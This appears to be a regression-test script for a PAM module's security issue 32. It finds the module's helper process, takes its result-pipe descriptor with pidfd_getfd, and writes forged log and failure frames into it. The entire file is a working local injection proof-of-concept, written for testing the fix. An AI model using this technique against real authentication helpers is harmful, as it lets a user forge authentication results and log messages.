"""A process of the user's that writes into pam_atmos's result pipe (issue 32).

usage: frame_attack.py OUT SECONDS FORGED
Run as the test user.  Polls /proc for a pam_atmos_helper of its own uid
(by its name, or under valgrind by its path on the checker's command line),
copies the helper's descriptor 3 with pidfd_getfd(2) (no ptrace attach is
needed, only ptrace rights, which a user has over its own dumpable process),
and writes an L frame holding FORGED and then a D frame (a setresuid failure,
as the module's own child used to report one).  Writes one word to OUT:
"injected", "nosys" (no pidfd_getfd here), "denied ERRNO" or "no-helper".
"""
import ctypes
import os
import struct
import sys
import time

out, seconds, forged = sys.argv[1], float(sys.argv[2]), sys.argv[3].encode()
libc = ctypes.CDLL(None, use_errno=True)
SYS_pidfd_getfd = 438  # the same number on every architecture


def frame(kind, level, payload):
    return bytes([ord(kind), level, len(payload) >> 8, len(payload) & 255]) + payload


def report(word):
    with open(out + ".tmp", "w") as f:
        f.write(word + "\n")
    os.rename(out + ".tmp", out)


me, deadline, last = os.getuid(), time.monotonic() + seconds, "no-helper"
while time.monotonic() < deadline:
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            # The helper itself, or (under valgrind) the checker running it.
            if (open(f"/proc/{p}/comm").read().strip() != "pam_atmos_helpe" and
                    b"/pam_atmos_helper\0" not in open(f"/proc/{p}/cmdline", "rb").read()):
                continue
            if os.stat(f"/proc/{p}").st_uid != me:
                continue
            pidfd = os.pidfd_open(int(p))
        except OSError:
            continue
        fd = libc.syscall(SYS_pidfd_getfd, pidfd, 3, 0)
        err = ctypes.get_errno()
        os.close(pidfd)
        if fd < 0:
            last = "nosys" if err == 38 else f"denied {err}"
            continue
        os.write(fd, frame("L", 0, forged))
        os.write(fd, frame("D", 5, struct.pack("=i", 1)))  # step 5: setresuid, EPERM
        os.close(fd)
        report("injected")
        sys.exit(0)
    time.sleep(0.002)
report(last)
sys.exit(1)
